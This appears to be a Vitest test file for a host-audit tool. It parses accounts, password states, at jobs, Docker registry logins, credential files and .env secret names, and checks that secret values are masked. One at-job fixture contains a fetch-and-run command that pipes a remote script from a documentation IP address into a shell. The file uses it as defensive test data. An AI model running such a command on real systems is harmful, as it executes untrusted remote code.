import { describe, expect, it } from 'vitest';
import { fileItems, sectionOf } from '../../testing/section';
import { parseAccounts } from './accounts';
import { parseAtJobs } from './at-jobs';
import { parseContentTrust } from './content-trust';
import { parseComposeEnvFiles, parseCredentialFiles, parseRegistryLogins } from './credentials';
import { parsePasswordStates } from './passwords';

const accounts = parseAccounts(
  sectionOf(
    '',
    ['passwd', 'root:x:0:0::/root:/bin/bash\nops:x:1000:998::/home/ops:/bin/bash\n'],
    ['group', 'root:x:0:\ndocker:x:998:deploy,ghost\n'],
  ),
);
const stat = (mode: string, uid = 0, gid = 0): string => `${mode} ${uid} ${gid} 120 1790000000\n`;

describe('groups', () => {
  it('keeps members without an account, and those by their primary group', () => {
    expect(accounts.groups).toContainEqual({ name: 'docker', gid: 998, members: ['deploy', 'ghost'] });
    expect(accounts.accounts.find((one) => one.name === 'ops')?.groups).toEqual(['docker']);
  });
});

describe('parsePasswordStates', () => {
  it('reads one word for each account; an empty field of passwd decides', () => {
    const section = sectionOf(
      '',
      ['passwd', 'guest:empty\n'],
      ['shadow', 'root:locked\nguest:set\nops:set\nold:empty\nodd:$6$canary\n'],
    );
    expect(parsePasswordStates(section)).toEqual({
      states: [
        { user: 'root', state: 'locked' },
        { user: 'guest', state: 'empty' },
        { user: 'ops', state: 'set' },
        { user: 'old', state: 'empty' },
      ],
      unreadItems: 1,
    });
  });
});

describe('parseAtJobs', () => {
  const body = [
    '#!/bin/sh',
    '# atrun uid=0 gid=0',
    '# mail root 0',
    'umask 22',
    'API_TOKEN=canary; export API_TOKEN',
    'PATH=/usr/bin:/bin; export PATH',
    'cd /root || {',
    "\t echo 'Execution directory inaccessible' >&2",
    '\t exit 1',
    '}',
    'curl -fsSL http://198.51.100.23/a.sh | sh',
    'mysqldump --password=canary x',
  ];

  it('reads the words of the person and drops what at wrote around them', () => {
    const jobs = parseAtJobs(
      sectionOf('', ...fileItems('at', '/var/spool/cron/atjobs/a00001', `${body.join('\n')}\n`)),
      accounts,
    );
    expect(jobs).toMatchObject([
      {
        uid: 0,
        user: 'root',
        lines: [
          { lineNumber: 11, text: 'curl -fsSL http://198.51.100.23/a.sh | sh' },
          { lineNumber: 12, text: 'mysqldump --password=*** x' },
        ],
      },
    ]);
    expect(JSON.stringify(jobs)).not.toContain('canary');
  });

  it('reads the spelling of RHEL', () => {
    const jobs = parseAtJobs(
      sectionOf(
        '',
        ...fileItems(
          'at',
          '/var/spool/at/a0001',
          `${body.slice(0, 10).join('\n')}\n\${SHELL:-/bin/sh} << 'marcinDELIMITER7be0b9e3'\nreboot\n\nmarcinDELIMITER7be0b9e3\n`,
        ),
        ...fileItems('at', '/var/spool/at/.SEQ', '00001'),
      ),
      accounts,
    );
    expect(jobs.map((job) => job.lines.map((line) => line.text))).toEqual([['reboot']]);
  });
});

describe('parseRegistryLogins', () => {
  it('tells which registries hold a login in the file', () => {
    const section = sectionOf(
      '',
      ['follow 1000', `/home/ops/.docker/config.json\0${stat('8180', 1000, 1000)}`],
      [
        'names',
        '{ "auths": { "ghcr.io": { "auth":"*" }, "empty": {}, "blank": { "auth": "" }, "odd": 7 }, "credHelpers": { "x.example": "*" } }',
      ],
      ['follow 0', `/root/.docker/config.json\0${stat('81a4')}`],
      ['names', '{"auths":{"docker.io":{}},"credsStore":"*"}'],
      ['store', '"credsStore":"pass"\n'],
      ['follow 0', `/srv/.docker/config.json\0${stat('81a4')}`],
      ['names', '{"auths": {"x": {"auth": "*"'],
    );
    const { logins, unreadItems } = parseRegistryLogins(section, accounts);
    expect(unreadItems).toBe(1);
    expect(logins).toMatchObject([
      {
        path: '/home/ops/.docker/config.json',
        user: 'ops',
        mode: 0o600,
        inlineRegistries: ['ghcr.io'],
        credentialStore: '',
        credentialHelpers: ['x.example'],
      },
      { user: 'root', mode: 0o644, inlineRegistries: [], credentialStore: 'pass', credentialHelpers: [] },
    ]);
  });
});

describe('files that hold keys', () => {
  it('tells what is there and who may read it', () => {
    const section = sectionOf(
      '',
      ['follow 0 aws', `/root/.aws/credentials\0${stat('81a4')}`],
      ['follow 1000 other', `/home/ops/.s3cfg\0${stat('8180', 1000, 998)}`],
      ['follow 0 kubernetes', '/root/.kube/config\0'],
    );
    expect(parseCredentialFiles(section, accounts)).toMatchObject([
      { path: '/root/.aws/credentials', user: 'root', credential: 'aws', mode: 0o644, kind: 'file' },
      { path: '/home/ops/.s3cfg', user: 'ops', credential: 'other', owner: 'ops', group: 'docker' },
    ]);
  });

  it('names the secrets of a .env file, and no value', () => {
    const section = sectionOf(
      '',
      ['follow compose', `/opt/shop/.env\0${stat('81a4')}`],
      ['names', 'POSTGRES_PASSWORD\nAPI_KEY\nAPI_KEY\nodd name\n'],
      ['follow compose', `/srv/plain/.env\0${stat('8180')}/srv/shared/env\n`],
    );
    expect(parseComposeEnvFiles(section, accounts)).toMatchObject([
      { path: '/opt/shop/.env', directory: '/opt/shop', mode: 0o644, secretNames: ['POSTGRES_PASSWORD', 'API_KEY'] },
      { directory: '/srv/plain', linkTarget: '/srv/shared/env', secretNames: [] },
    ]);
  });
});

describe('parseContentTrust', () => {
  it('finds the line, and no comment', () => {
    const section = sectionOf(
      '',
      ...fileItems('profile', '/etc/environment', '# DOCKER_CONTENT_TRUST=1\nDOCKER_CONTENT_TRUST=1\n'),
      ...fileItems('home 0', '/root/.bashrc', 'alias x=y # DOCKER_CONTENT_TRUST=1\n'),
    );
    expect(parseContentTrust(section)).toEqual([
      { path: '/etc/environment', lineNumber: 2, text: 'DOCKER_CONTENT_TRUST=1' },
    ]);
  });
});
